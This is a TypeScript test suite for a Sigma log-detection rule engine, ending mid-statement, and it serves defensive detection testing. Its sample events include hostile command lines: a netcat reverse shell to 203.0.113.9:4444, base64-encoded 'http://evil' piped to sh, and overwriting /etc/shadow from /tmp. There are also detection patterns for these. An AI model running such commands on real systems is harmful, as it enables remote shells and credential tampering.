import fc from "fast-check";
import type { LogEvent } from "../../mod/logs/log_event.ts";
import { loadRules, parseRules, RuleError, RuleSet } from "../../mod/logs/sigma/mod.ts";
import { base64Offsets } from "../../mod/logs/sigma/modifiers.ts";
import { compileWildcards, parseWildcards } from "../../mod/logs/sigma/wildcard.ts";
import { assert, assertEquals, assertMatch } from "../helpers/assert.ts";
import { requirePart } from "../helpers/require.ts";

const FIXTURES = new URL("../fixtures/sigma/", import.meta.url);
const SHARED = new URL("../../../shared/data/sigma/", import.meta.url);

type Fields = LogEvent["fields"];

function ev(fields: Fields, extra: Partial<LogEvent> = {}): LogEvent {
  return {
    source: "replay",
    logsource: { product: "linux", category: "process_creation" },
    ts: "2024-05-01T10:00:00Z",
    message: "",
    fields,
    ...extra,
  };
}

/** An event whose message (and optionally raw line) is the text keyword searches run over. */
function msg(message: string, raw?: string): LogEvent {
  return ev({}, { message, raw });
}

function dedent(s: string, by: string): string {
  const lines = s.replace(/^\n/, "").trimEnd().split("\n");
  const cut = Math.min(...lines.filter((l) => l.trim()).map((l) => l.match(/^ */)![0].length));
  return lines.map((l) => by + l.slice(cut)).join("\n");
}

/** A rule over linux events with this detection (YAML, any indentation). */
function ruleText(detection: string): string {
  return `title: test rule\nlogsource:\n    product: linux\ndetection:\n${
    dedent(detection, "    ")
  }\n`;
}

function detector(detection: string): (e: LogEvent) => boolean {
  const { rules, errors } = parseRules(ruleText(detection), "inline.yml");
  assertEquals(errors.map((e) => e.format()), [], detection);
  const set = new RuleSet(rules);
  return (e) => set.match(e).length === 1;
}

function errorsOf(text: string, file = "inline.yml"): string[] {
  return parseRules(text, file).errors.map((e) => e.format());
}

interface Case {
  name: string;
  detection: string;
  yes: (Fields | LogEvent)[];
  no: (Fields | LogEvent)[];
}

function runCases(cases: Case[]) {
  for (const c of cases) {
    const hit = detector(c.detection);
    const asEvent = (x: Fields | LogEvent): LogEvent =>
      "logsource" in x && typeof x.logsource === "object" ? x as LogEvent : ev(x as Fields);
    for (const y of c.yes) assert(hit(asEvent(y)), `${c.name}: should match ${JSON.stringify(y)}`);
    for (const n of c.no) {
      assert(!hit(asEvent(n)), `${c.name}: should not match ${JSON.stringify(n)}`);
    }
  }
}

/** UTF-16LE bytes of `s`, one char per byte, as `btoa` wants them. */
function utf16le(s: string): string {
  let out = "";
  for (const c of s) out += String.fromCharCode(c.charCodeAt(0) & 0xff, c.charCodeAt(0) >> 8);
  return out;
}

Deno.test("Sigma values and modifiers", async (t) => {
  await t.step("plain values: case-insensitive, wildcards, escapes, lists, maps", () => {
    runCases([
      {
        name: "case-insensitive equality",
        detection: `sel:\n  Image: /usr/bin/CURL\ncondition: sel`,
        yes: [{ Image: "/usr/bin/curl" }, { Image: "/USR/BIN/curl" }],
        no: [{ Image: "/usr/bin/curl2" }, { Image: "x/usr/bin/curl" }, {}],
      },
      {
        name: "* and ? wildcards",
        detection: `sel:\n  Image: '/usr/*/?ash'\ncondition: sel`,
        yes: [{ Image: "/usr/bin/bash" }, { Image: "/usr/local/bin/dash" }],
        no: [{ Image: "/usr/bin/ash" }, { Image: "/usr/bin/bash2" }, { Image: "/bin/bash" }],
      },
      {
        name: "escaped wildcards are literal",
        detection: `sel:\n  CommandLine:\n    - 'echo \\*'\n    - 'a\\?b'\ncondition: sel`,
        yes: [{ CommandLine: "echo *" }, { CommandLine: "a?b" }],
        no: [{ CommandLine: "echo x" }, { CommandLine: "axb" }],
      },
      {
        name: "backslash before a wildcard, and a plain backslash",
        detection: `sel:\n  Path:\n    - 'C:\\\\*.exe'\n    - 'D:\\Windows'\ncondition: sel`,
        yes: [{ Path: "C:\\x.exe" }, { Path: "d:\\windows" }],
        no: [{ Path: "C:x.exe" }, { Path: "D:\\\\Windows" }],
      },
      {
        name: "\\\\\\\\ is a double backslash",
        detection: `sel:\n  Path: 'a\\\\\\\\b'\ncondition: sel`,
        yes: [{ Path: "a\\\\b" }],
        no: [{ Path: "a\\b" }],
      },
      {
        name: "a value list is OR, a map is AND",
        detection: `sel:\n  Image: [/bin/sh, /bin/bash]\n  User: root\ncondition: sel`,
        yes: [{ Image: "/bin/sh", User: "root" }, { Image: "/bin/bash", User: "ROOT" }],
        no: [{ Image: "/bin/sh", User: "alice" }, { Image: "/bin/zsh", User: "root" }],
      },
      {
        name: "a list of maps is OR",
        detection: `sel:\n  - Image: /bin/sh\n  - User: root\ncondition: sel`,
        yes: [{ Image: "/bin/sh" }, { User: "root" }],
        no: [{ Image: "/bin/zsh", User: "alice" }],
      },
      {
        name: "null: field absent or null",
        detection: `sel:\n  ParentImage: null\ncondition: sel`,
        yes: [{}, { ParentImage: null }],
        no: [{ ParentImage: "/bin/sh" }, { ParentImage: "" }],
      },
      {
        name: "empty string: present and empty",
        detection: `sel:\n  ParentImage: ''\ncondition: sel`,
        yes: [{ ParentImage: "" }],
        no: [{}, { ParentImage: null }, { ParentImage: "x" }],
      },
      {
        name: "numbers match numbers and numeric text",
        detection: `sel:\n  DestinationPort: 4444\ncondition: sel`,
        yes: [{ DestinationPort: 4444 }, { DestinationPort: "4444" }],
        no: [{ DestinationPort: 44444 }, { DestinationPort: "4445" }],
      },
      {
        name: "booleans as text",
        detection: `sel:\n  Initiated: 'true'\ncondition: sel`,
        yes: [{ Initiated: true }, { Initiated: "True" }],
        no: [{ Initiated: false }],
      },
      {
        name: "field names: exact, then case-insensitive",
        detection: `sel:\n  commandline|contains: shadow\ncondition: sel`,
        yes: [{ CommandLine: "cat /etc/shadow" }, { commandline: "cat /etc/shadow" }],
        no: [{ CommandLineX: "cat /etc/shadow" }],
      },
    ]);
  });

  await t.step("contains, startswith, endswith, all, cased, neq", () => {
    runCases([
      {
        name: "contains",
        detection: `sel:\n  CommandLine|contains: /etc/shadow\ncondition: sel`,
        yes: [{ CommandLine: "cat /ETC/shadow now" }],
        no: [{ CommandLine: "cat /etc/passwd" }],
      },
      {
        name: "startswith",
        detection: `sel:\n  CommandLine|startswith: 'curl '\ncondition: sel`,
        yes: [{ CommandLine: "curl http://x" }],
        no: [{ CommandLine: "x curl http://x" }],
      },
      {
        name: "endswith",
        detection: `sel:\n  Image|endswith: /nc\ncondition: sel`,
        yes: [{ Image: "/usr/bin/nc" }],
        no: [{ Image: "/usr/bin/ncat" }],
      },
      {
        name: "contains|all",
        detection: `sel:\n  CommandLine|contains|all: [' -c ', socket, pty]\ncondition: sel`,
        yes: [{ CommandLine: "python -c 'import socket,pty'" }],
        no: [{ CommandLine: "python -c 'import socket'" }],
      },
      {
        name: "cased",
        detection: `sel:\n  CommandLine|cased|contains: ' -O '\ncondition: sel`,
        yes: [{ CommandLine: "wget -O out" }],
        no: [{ CommandLine: "wget -o out" }],
      },
      {
        name: "neq",
        detection: `sel:\n  User|neq: [root, daemon]\ncondition: sel`,
        yes: [{ User: "alice" }],
        no: [{ User: "ROOT" }, { User: "daemon" }, {}],
      },
    ]);
  });

  await t.step("re with i, m, s sub-modifiers and leading inline flags", () => {
    runCases([
      {
        name: "re is case-sensitive",
        detection: `sel:\n  CommandLine|re: '^id -[ug]$'\ncondition: sel`,
        yes: [{ CommandLine: "id -u" }],
        no: [{ CommandLine: "ID -U" }, { CommandLine: "id -un" }],
      },
      {
        name: "re|i",
        detection: `sel:\n  CommandLine|re|i: '^id -[ug]$'\ncondition: sel`,
        yes: [{ CommandLine: "ID -U" }],
        no: [{ CommandLine: "ID -X" }],
      },
      {
        name: "re|m",
        detection: `sel:\n  Text|re|m: '^second$'\ncondition: sel`,
        yes: [{ Text: "first\nsecond\nthird" }],
        no: [{ Text: "first second" }],
      },
      {
        name: "without m, ^ is the start of the text",
        detection: `sel:\n  Text|re: '^second$'\ncondition: sel`,
        yes: [{ Text: "second" }],
        no: [{ Text: "first\nsecond" }],
      },
      {
        name: "re|s",
        detection: `sel:\n  Text|re|s: 'a.b'\ncondition: sel`,
        yes: [{ Text: "a\nb" }],
        no: [{ Text: "ab" }],
      },
      {
        name: "without s, . stops at a newline",
        detection: `sel:\n  Text|re: 'a.b'\ncondition: sel`,
        yes: [{ Text: "axb" }],
        no: [{ Text: "a\nb" }],
      },
      {
        name: "(?i) and (?is) become flags",
        detection: `sel:\n  - Path|re: '(?i)/lib/python3\\.([5-9]|[0-9]{2})/site-packages/'\n` +
          `  - Text|re: '(?is)^begin.end$'\ncondition: sel`,
        yes: [{ Path: "/usr/LIB/python3.11/site-packages/x" }, { Text: "BEGIN\nEND" }],
        no: [{ Path: "/usr/lib/python3.4/site-packages/x" }, { Text: "begin\n\nend" }],
      },
      {
        name: "re|all",
        detection: `sel:\n  CommandLine|re|all: ['-D', '\\s-[FTd]\\s']\ncondition: sel`,
        yes: [{ CommandLine: "ssh -D 1080 -T host" }],
        no: [{ CommandLine: "ssh -D 1080 host" }],
      },
    ]);
  });

  await t.step("cidr for IPv4 and IPv6", () => {
    runCases([{
      name: "cidr",
      detection:
        `sel:\n  DestinationIp|cidr: ['10.0.0.0/8', 'fc00::/7', '192.168.1.7']\ncondition: sel`,
      yes: [{ DestinationIp: "10.1.2.3" }, { DestinationIp: "fd12::1" }, {
        DestinationIp: "192.168.1.7",
      }],
      no: [
        { DestinationIp: "11.0.0.1" },
        { DestinationIp: "fe80::1" },
        { DestinationIp: "192.168.1.8" },
        { DestinationIp: "not an ip" },
        {},
      ],
    }]);
  });

  await t.step("base64, base64offset (three offsets), utf16 and windash", () => {
    const offsets = ["", "a", "ab"].flatMap((p) =>
      ["", "z", "zz"].map((s) => ({ CommandLine: `echo ${btoa(`${p}http://evil${s}`)} | sh` }))
    );
    runCases([
      {
        // Plain base64 finds the value only where it was encoded on its own (padding and
        // alignment change the rest); base64offset is for values inside longer texts.
        name: "base64",
        detection: `sel:\n  CommandLine|base64|contains: 'http://'\ncondition: sel`,
        yes: [{ CommandLine: `echo ${btoa("http://")} | base64 -d` }],
        no: [{ CommandLine: `echo ${btoa("http://x")}` }, { CommandLine: "http://" }],
      },
      {
        name: "base64offset|contains at every alignment",
        detection: `sel:\n  CommandLine|base64offset|contains: 'http://evil'\ncondition: sel`,
        yes: offsets,
        no: [{ CommandLine: `echo ${btoa("http://good")}` }],
      },
      {
        name: "utf16le|base64offset|contains",
        detection: `sel:\n  CommandLine|utf16le|base64offset|contains: 'Invoke'\ncondition: sel`,
        yes: ["", "x", "xy"].map((p) => ({ CommandLine: btoa(utf16le(`${p}Invoke-Thing`)) })),
        no: [{ CommandLine: btoa("Invoke-Thing") }],
      },
      {
        name: "wide|base64 and utf16be|base64",
        detection: `sel:\n  - A|wide|base64: 'ab'\n  - B|utf16be|base64: 'ab'\ncondition: sel`,
        yes: [{ A: btoa("a\0b\0") }, { B: btoa("\0a\0b") }],
        no: [{ A: btoa("ab") }, { B: btoa("a\0b\0") }],
      },
      {
        name: "windash",
        detection: `sel:\n  CommandLine|windash|contains: ' -enc '\ncondition: sel`,
        yes: [" -enc ", " /enc ", " \u2013enc ", " \u2014enc ", " \u2015enc "].map((s) => ({
          CommandLine: `pwsh${s}AAA`,
        })),
        no: [{ CommandLine: "pwsh +enc AAA" }, { CommandLine: "pwsh enc AAA" }],
      },
    ]);
  });

  await t.step("base64offset finds the value at any position (property)", () => {
    const value = "secret-token";
    const variants = base64Offsets(new TextEncoder().encode(value));
    fc.assert(
      fc.property(fc.string({ maxLength: 12 }), fc.string({ maxLength: 12 }), (pre, post) => {
        const encoded = btoa(
          String.fromCharCode(...new TextEncoder().encode(`${pre}${value}${post}`)),
        );
        return variants.some((v) => encoded.includes(v));
      }),
      { numRuns: 300 },
    );
  });

  await t.step("wildcard matching agrees with a regex reference (property)", () => {
    const toRegex = (p: string) =>
      new RegExp(
        "^" +
          [...p].map((c) => (c === "*" ? "[^]*" : c === "?" ? "[^]" : c)).join("") +
          "$",
      );
    fc.assert(
      fc.property(
        fc.stringMatching(/^[ab*?]{0,8}$/),
        fc.stringMatching(/^[ab]{0,10}$/),
        (pattern, text) =>
          compileWildcards(parseWildcards(pattern), false)(text) === toRegex(pattern).test(text),
      ),
      { numRuns: 2000 },
    );
  });

  await t.step("exists, lt/lte/gt/gte, fieldref, time parts", () => {
    runCases([
      {
        name: "exists: true",
        detection: `sel:\n  PasswordLastSet|exists: true\ncondition: sel`,
        yes: [{ PasswordLastSet: null }, { PasswordLastSet: "" }, { passwordlastset: "x" }],
        no: [{}],
      },
      {
        name: "exists: false",
        detection: `sel:\n  PasswordLastSet|exists: false\ncondition: sel`,
        yes: [{}],
        no: [{ PasswordLastSet: null }],
      },
      {
        name: "lt and gte",
        detection: `sel:\n  Uid|lt: 1000\n  Gid|gte: 10\ncondition: sel`,
        yes: [{ Uid: 0, Gid: 10 }, { Uid: "999", Gid: "11" }],
        no: [{ Uid: 1000, Gid: 10 }, { Uid: 0, Gid: 9 }, { Uid: "x", Gid: 10 }, { Gid: 10 }],
      },
      {
        name: "lte and gt",
        detection: `sel:\n  Size|lte: 10\n  Count|gt: 2.5\ncondition: sel`,
        yes: [{ Size: 10, Count: 3 }],
        no: [{ Size: 11, Count: 3 }, { Size: 10, Count: 2.5 }],
      },
      {
        name: "fieldref",
        detection: `sel:\n  TargetUser|fieldref: User\ncondition: sel`,
        yes: [{ TargetUser: "alice", User: "ALICE" }],
        no: [{ TargetUser: "alice", User: "bob" }, { TargetUser: "alice" }],
      },
      {
        name: "fieldref|contains",
        detection: `sel:\n  CommandLine|fieldref|contains: User\ncondition: sel`,
        yes: [{ CommandLine: "passwd alice", User: "alice" }],
        no: [{ CommandLine: "passwd bob", User: "alice" }],
      },
      {
        name: "hour and hour|gte",
        detection: `sel:\n  Time|hour|gte: 22\n  Time|year: 2024\ncondition: sel`,
        yes: [{ Time: "2024-05-01T23:10:00Z" }],
        no: [{ Time: "2024-05-01T21:59:59Z" }, { Time: "2023-05-01T23:10:00Z" }, { Time: "x" }],
      },
    ]);
  });

  await t.step("keywords search the message and the raw line", () => {
    runCases([
      {
        name: "keyword list is OR, matched anywhere",
        detection: `keywords:\n  - 'Failed password'\n  - 'Invalid user'\ncondition: keywords`,
        yes: [
          msg("sshd[1]: failed PASSWORD for root"),
          msg("x", "<38>sshd[1]: Invalid user admin"),
        ],
        no: [msg("Accepted password for root"), ev({ Message: "Failed password" })],
      },
      {
        name: "'|all' keywords are AND",
        detection: `keywords:\n  '|all':\n    - pkexec\n    - XAUTHORITY\ncondition: keywords`,
        yes: [msg("pkexec: XAUTHORITY contains suspicious content")],
        no: [msg("pkexec: all fine")],
      },
      {
        name: "keyword wildcards",
        detection: `keywords: 'session opened for user *(uid=0)'\ncondition: keywords`,
        yes: [msg("pam_unix(su:session): session opened for user root(uid=0) by x")],
        no: [msg("session opened for user alice(uid=1000)")],
      },
      {
        name: "keywords and fields together",
        detection: `sel:\n  Program: sshd\nkw:\n  - 'Accepted'\ncondition: sel and kw`,
        yes: [ev({ Program: "sshd" }, { message: "Accepted publickey for x" })],
        no: [ev({ Program: "sudo" }, { message: "Accepted publickey for x" })],
      },
    ]);
  });
});

Deno.test("Sigma conditions", async (t) => {
  const detection = `
    sel_a:
      A: 1
    sel_b:
      B: 1
    sel_c:
      C: 1
    _hidden:
      H: 1
    condition: COND`;
  const on = (...names: string[]) => ev(Object.fromEntries(names.map((n) => [n, 1])));
  const cases: [string, string[][], string[][]][] = [
    ["sel_a and sel_b", [["A", "B"]], [["A"], ["B"]]],
    ["sel_a or sel_b", [["A"], ["B"]], [["C"], []]],
    ["not sel_a", [["B"], []], [["A"]]],
    ["sel_a or sel_b and sel_c", [["A"], ["B", "C"]], [["B"], ["C"]]],
    ["(sel_a or sel_b) and sel_c", [["A", "C"], ["B", "C"]], [["A"], ["C"]]],
    ["not sel_a and sel_b", [["B"]], [["A", "B"], []]],
    ["not (sel_a and sel_b)", [["A"], []], [["A", "B"]]],
    ["not not sel_a", [["A"]], [["B"]]],
    ["1 of sel_*", [["A"], ["C"]], [["H"], []]],
    ["any of sel_*", [["B"]], [["H"]]],
    ["all of sel_*", [["A", "B", "C"]], [["A", "B"]]],
    ["1 of them", [["A"], ["C"]], [["H"]]],
    ["all of them", [["A", "B", "C"]], [["A", "B", "H"]]],
    ["sel_a and not 1 of sel_b*", [["A"], ["A", "C"]], [["A", "B"]]],
    ["all of sel_* or sel_a and not sel_b", [["A"], ["A", "B", "C"]], [["A", "B"]]],
    ["sel_a AND NOT sel_b", [["A"]], [["A", "B"]]],
  ];
  for (const [cond, yes, no] of cases) {
    await t.step(cond, () => {
      const hit = detector(detection.replace("COND", `'${cond}'`));
      for (const y of yes) assert(hit(on(...y)), `${cond} should match ${y}`);
      for (const n of no) assert(!hit(on(...n)), `${cond} should not match ${n}`);
    });
  }

  await t.step("a list of conditions is their OR", () => {
    const hit = detector(detection.replace("COND", "\n        - sel_a\n        - sel_b and sel_c"));
    assert(hit(on("A")) && hit(on("B", "C")) && !hit(on("B")));
  });

  await t.step("errors point into the condition", () => {
    const at = (cond: string) => {
      const text = ruleText(detection.replace("COND", `'${cond}'`));
      const errs = parseRules(text, "c.yml").errors;
      assertEquals(errs.length, 1, `${cond}: ${errs.map((e) => e.format())}`);
      return errs[0].format();
    };
    // The condition line is `    condition: '…'`, line 13; its text starts at column 17.
    assertEquals(
      at("sel_a and"),
      'c.yml:13:26: E_CONDITION: Expected an identifier, "not", "1 of", "all of" or "(" but the condition ended',
    );
    assertEquals(
      at("sel_a and sel_x"),
      'c.yml:13:27: E_CONDITION: Undefined search identifier "sel_x"; did you mean "sel_a"?',
    );
    assertEquals(
      at("sel_a | count() > 5"),
      'c.yml:13:23: E_CONDITION: The aggregation syntax ("| count() ...") is obsolete; write a correlation rule',
    );
    assertEquals(
      at("(sel_a or sel_b"),
      'c.yml:13:32: E_CONDITION: Expected ")" to close the "(" at column 17',
    );
    assertEquals(
      at("1 of filter_*"),
      'c.yml:13:22: E_CONDITION: "1 of filter_*" matches no search identifier (defined: sel_a, sel_b, sel_c, _hidden)',
    );
    assertEquals(
      at("2 of sel_*"),
      'c.yml:13:17: E_CONDITION: "2 of" is not Sigma; use "1 of" or "all of"',
    );
    assertEquals(
      at("sel_*"),
      'c.yml:13:17: E_CONDITION: Wildcard "sel_*" is only allowed after "1 of" or "all of"',
    );
    assertEquals(
      at("sel_a sel_b"),
      'c.yml:13:23: E_CONDITION: Unexpected "sel_b" after a complete condition',
    );
    assertEquals(at("sel_a and or sel_b"), 'c.yml:13:27: E_CONDITION: Unexpected "or"');
  });
});

Deno.test("Sigma rule errors", async (t) => {
  await t.step("a rule with errors at known positions", async () => {
    const file = new URL("broken/bad_rule.yml", FIXTURES).pathname;
    const { rules, errors } = await loadRules([file]);
    assertEquals(rules.length, 0);
    assert(errors.every((e) => e instanceof RuleError && e.file === file));
    const got = errors
      .map((e) => ({ code: e.code, line: e.line, col: e.col, message: e.message }))
      .sort((a, b) => a.line - b.line || a.col - b.col);
    assertEquals(got, [
      {
        code: "E_RULE",
        line: 3,
        col: 9,
        message:
          'Unknown status "testing"; expected stable, test, experimental, deprecated, unsupported',
      },
      {
        code: "E_MODIFIER",
        line: 8,
        col: 21,
        message: 'Unknown modifier "contians"; did you mean "contains"?',
      },
      {
        code: "E_REGEX",
        line: 9,
        col: 19,
        message: 'Invalid regular expression "(unclosed": Unterminated group',
      },
      {
        code: "E_VALUE",
        line: 11,
        col: 29,
        message: 'Invalid CIDR "10.0.0.0/33": prefix "/33" is out of range for IPv4 (0 to 32)',
      },
      {
        code: "E_CONDITION",
        line: 12,
        col: 34,
        message: 'Undefined search identifier "filtr"; did you mean "filter"?',
      },
      {
        code: "E_RULE",
        line: 13,
        col: 8,
        message: 'Unknown level "severe"; expected informational, low, medium, high, critical',
      },
    ]);
    assertEquals(
      errors.find((e) => e.code === "E_MODIFIER")!.format(),
      `${file}:8:21: E_MODIFIER: Unknown modifier "contians"; did you mean "contains"?`,
    );
  });

  await t.step(
    "a directory of broken files reports every error, and loads the good rule",
    async () => {
      const dir = new URL("broken/", FIXTURES).pathname;
      const { rules, correlations, errors } = await loadRules([dir]);
      assertEquals(rules.map((r) => r.title), ["Good rule in a file with a bad one"]);
      assertEquals(correlations, []);
      const where = errors.map((e) => `${e.file.slice(dir.length)}:${e.line}:${e.col} ${e.code}`)
        .sort();
      assertEquals(where, [
        "bad_multi.yml:10:1 E_RULE",
        "bad_multi.yml:13:5 E_DETECTION",
        "bad_multi.yml:18:11 E_CORRELATION",
        "bad_multi.yml:21:11 E_REFERENCE",
        "bad_multi.yml:22:15 E_CORRELATION",
        "bad_rule.yml:11:29 E_VALUE",
        "bad_rule.yml:12:34 E_CONDITION",
        "bad_rule.yml:13:8 E_RULE",
        "bad_rule.yml:3:9 E_RULE",
        "bad_rule.yml:8:21 E_MODIFIER",
        "bad_rule.yml:9:19 E_REGEX",
        "bad_yaml.yml:8:1 E_YAML",
      ]);
      const msgs = errors.map((e) => e.message);
      assert(msgs.includes('Unknown correlation type "event_cout"; did you mean "event_count"?'));
      assert(msgs.includes('Unknown rule "no_such_rule"'));
      assert(msgs.includes('The rule has no "title"'));
    },
  );

  await t.step("a missing path is an E_READ error, not an exception", async () => {
    const { errors } = await loadRules(["/nonexistent/rules"]);
    assertEquals(errors.map((e) => [e.code, e.file, e.line]), [[
      "E_READ",
      "/nonexistent/rules",
      0,
    ]]);
  });

  await t.step("modifier misuse is reported at the modifier or value", () => {
    const one = (item: string) => {
      const errs = errorsOf(ruleText(`sel:\n  ${item}\ncondition: sel`));
      assertEquals(errs.length, 1, `${item}: ${errs}`);
      return errs[0].replace(/^inline\.yml:/, "");
    };
    // The item is on line 6, starting at column 7.
    assertEquals(
      one("Image|contains|startswith: x"),
      '6:22: E_MODIFIER: Modifier "startswith" conflicts with "contains" on the same value',
    );
    assertEquals(
      one("Image|i: x"),
      '6:13: E_MODIFIER: Modifier "i" is a sub-modifier of "re" and must follow it',
    );
    assertEquals(
      one("Image|re|contains: x"),
      '6:16: E_MODIFIER: Modifier "contains" cannot be combined with "re"',
    );
    assertEquals(
      one("Image|expand: '%admins%'"),
      '6:13: E_UNSUPPORTED: Modifier "expand" needs placeholder values from a processing pipeline, which Ironpost does not have',
    );
    assertEquals(
      one("Image|base64: 'a*'"),
      '6:21: E_VALUE: "base64" cannot encode wildcards or windash characters; put "contains" after it',
    );
    assertEquals(one("Image|exists: yes"), '6:21: E_VALUE: "exists" takes true or false');
    assertEquals(one("Uid|lt: ten"), '6:15: E_VALUE: Expected a number, got "ten"');
    assertEquals(one("'|cidr': 10.0.0.0/8"), '6:9: E_MODIFIER: Modifier "cidr" needs a field name');
    assertEquals(one("'|neq': x"), '6:9: E_MODIFIER: Modifier "neq" needs a field name');
    assertEquals(
      one("Image|re: '(?x)a b'"),
      '6:17: E_REGEX: Inline flag "x" in "(?x)" is not supported (only i, m and s are)',
    );
    assertEquals(
      one("Image: {a: b}"),
      '6:14: E_VALUE: The value of "Image" must be a value or a list of values, not a map',
    );
    assertEquals(one("Image: []"), '6:14: E_VALUE: "Image" has an empty value list');
  });

  await t.step("structure errors", () => {
    assertEquals(errorsOf("title: x\nlogsource: {product: linux}\ndetection:\n  sel: {A: 1}\n"), [
      'inline.yml:4:3: E_DETECTION: The detection has no "condition"',
    ]);
    assertEquals(errorsOf("logsource: linux\ndetection: {s: {A: 1}, condition: s}\n"), [
      'inline.yml:1:1: E_RULE: The rule has no "title"',
      'inline.yml:1:12: E_RULE: "logsource" must be a map',
    ]);
    assertEquals(
      errorsOf(
        "title: x\ntags: [Attack T1059]\nlogsource: {}\ndetection: {s: {A: 1}, condition: s}\n",
      ),
      ['inline.yml:2:8: E_RULE: Tag "Attack T1059" must be namespace.value in lower case (attack.t1059)'],
    );
    assertEquals(
      errorsOf(
        "title: x\nlogsource: {}\ndetection:\n  s: {A: 1}\n  timeframe: 5m\n  condition: s\n",
      ),
      ['inline.yml:5:3: E_UNSUPPORTED: "timeframe" belongs to the obsolete aggregation syntax; write a correlation rule'],
    );
    const dup = "title: a\nid: same\nlogsource: {}\ndetection: {s: {A: 1}, condition: s}\n";
    assertEquals(parseRules(`${dup}---\n${dup}`, "d.yml").errors.map((e) => e.format()), [
      'd.yml:7:5: E_DUPLICATE: Duplicate id "same" (first in d.yml)',
    ]);
  });
});

Deno.test("Sigma rule collections and metadata", async (t) => {
  await t.step("multi-document files and action: global / repeat / reset", () => {
    const { rules, errors } = parseRules(`
action: global
title: Shell spawned
logsource: {product: linux, category: process_creation}
detection:
    shell: {Image|endswith: [/sh, /bash]}
    condition: shell and parent
level: high
---
detection:
    parent: {ParentImage|endswith: /nginx}
---
action: repeat
title: Shell spawned by apache
detection:
    parent: {ParentImage|endswith: /apache2}
---
action: reset
---
title: Plain second rule
logsource: {product: linux}
detection: {s: {Image: /bin/true}, condition: s}
`);
    assertEquals(errors.map((e) => e.format()), []);
    assertEquals(rules.map((r) => [r.title, r.level]), [
      ["Shell spawned", "high"],
      ["Shell spawned by apache", "high"],
      ["Plain second rule", undefined],
    ]);
    const set = new RuleSet(rules);
    const titles = (f: Fields) => set.match(ev(f)).map((m) => m.title);
    assertEquals(titles({ Image: "/bin/sh", ParentImage: "/usr/sbin/nginx" }), ["Shell spawned"]);
    assertEquals(titles({ Image: "/bin/bash", ParentImage: "/usr/sbin/apache2" }), [
      "Shell spawned by apache",
    ]);
  });

  await t.step("levels map to severities; metadata is kept", () => {
    const { rules } = parseRules(
      `
title: Info rule
id: 1b6f5e1c-0000-4000-8000-000000000001
status: experimental
description: why
author: me
tags: [attack.discovery, attack.t1082]
falsepositives: Admins
fields: [CommandLine, User]
level: informational
logsource: {product: linux}
detection: {s: {A: 1}, condition: s}
`,
      "meta.yml",
    );
    const r = rules[0];
    assertEquals(
      [r.severity, r.level, r.status, r.tags, r.falsepositives, r.fields, r.file, r.line],
      [
        "info",
        "informational",
        "experimental",
        ["attack.discovery", "attack.t1082"],
        ["Admins"],
        ["CommandLine", "User"],
        "meta.yml",
        2,
      ],
    );
  });
});

Deno.test("Sigma routing by logsource", async (t) => {
  const { rules } = parseRules(`
title: any linux
logsource: {product: linux}
detection: {s: {A: 1}, condition: s}
---
title: sshd only
logsource: {product: linux, service: sshd}
detection: {s: {A: 1}, condition: s}
---
title: process creation
logsource: {category: process_creation, product: linux}
detection: {s: {A: 1}, condition: s}
---
title: windows
logsource: {product: windows}
detection: {s: {A: 1}, condition: s}
`);
  const set = new RuleSet(rules);
  const titles = (logsource: LogEvent["logsource"]) =>
    set.match(ev({ A: 1 }, { logsource })).map((m) => m.title);
  await t.step("every key the rule names must equal the event's, ignoring case", () => {
    assertEquals(titles({ product: "linux", service: "sshd" }), ["any linux", "sshd only"]);
    assertEquals(titles({ product: "Linux", category: "PROCESS_CREATION" }), [
      "any linux",
      "process creation",
    ]);
    assertEquals(titles({ product: "linux", service: "auditd" }), ["any linux"]);
    assertEquals(titles({ service: "sshd" }), []);
    assertEquals(titles({ product: "windows" }), ["windows"]);
  });
  await t.step("rulesFor lists the candidates without running them", () => {
    assertEquals(set.rulesFor({ product: "linux", service: "sshd", category: "x" }).length, 2);
  });
});

Deno.test("SigmaHQ rules against hand-built events", async (t) => {
  const { rules, errors } = await loadRules([new URL("sigmahq/", FIXTURES).pathname]);
  assertEquals(errors.map((e) => e.format()), []);
  assertEquals(rules.length, 7);
  const set = new RuleSet(rules);
  const proc = { product: "linux", category: "process_creation" };
  const auditd = { product: "linux", service: "auditd" };
  const net = { product: "linux", category: "network_connection" };
  const hits = (logsource: LogEvent["logsource"], fields: Fields, message = "") =>
    set.match(ev(fields, { logsource, message })).map((m) => m.title);

  await t.step("process_creation: cp of passwd/shadow to /tmp (all of selection_*)", () => {
    const title = "Copy Passwd Or Shadow From TMP Path";
    assertEquals(hits(proc, { Image: "/usr/bin/cp", CommandLine: "cp /tmp/shadow /etc/shadow" }), [
      title,
    ]);
    assertEquals(hits(proc, { Image: "/usr/bin/cp", CommandLine: "cp /tmp/hosts /etc/hosts" }), []);
    assertEquals(
      hits(proc, { Image: "/usr/bin/mv", CommandLine: "mv /tmp/shadow /etc/shadow" }),
      [],
    );
  });

  await t.step("process_creation: netcat reverse shell (CommandLine contains)", () => {
    const m = set.match(
      ev({ Image: "/usr/bin/nc", CommandLine: "nc 203.0.113.9 4444 -e /bin/bash" }, {
        logsource: proc,
      }),
    );
    assertEquals(m.map((x) => [x.id, x.title, x.level, x.severity]), [[
      "7f734ed0-4f47-46c0-837f-6ee62505abd9",
      "Potential Netcat Reverse Shell Execution",
      "high",
      "high",
    ]]);
    assertEquals(m[0].tags, ["attack.execution", "attack.t1059"]);
    assert(m[0].file.endsWith("sigmahq/proc_creation_lnx_netcat_reverse_shell.yml"));
    assertEquals(hits(proc, { Image: "/usr/bin/nc", CommandLine: "nc -l 4444" }), []);
  });

  await t.step("auditd: key and type/exe fields", () => {
    assertEquals(hits(auditd, { type: "SYSCALL", key: "susp_activity", exe: "/usr/bin/curl" }), [
      "Suspicious C2 Activities",
    ]);
    assertEquals(
      hits(auditd, { type: "SYSCALL", key: "network_connect_4", exe: "/usr/bin/nmap" }),
      [
        "Linux Network Service Scanning - Auditd",
      ],
    );
    assertEquals(
      hits(auditd, { type: "EXECVE", key: "network_connect_4", exe: "/usr/bin/nmap" }),
      [],
    );
    assertEquals(
      hits(auditd, { type: "SYSCALL", key: "network_connect_4", exe: "/usr/bin/nmap2" }),
      [],
    );
    // The same event from another service is not routed to the auditd rules.
    assertEquals(
      hits({ product: "linux", service: "syslog" }, { type: "SYSCALL", key: "susp_activity" }),
      [],
    );
  });

  await t.step("network_connection: callback ports, not to private ranges (cidr, numbers)", () => {
    const title = "Potentially Suspicious Malware Callback Communication - Linux";
    assertEquals(
      hits(net, { Initiated: true, DestinationPort: 4444, DestinationIp: "203.0.113.5" }),
      [title],
    );
    assertEquals(
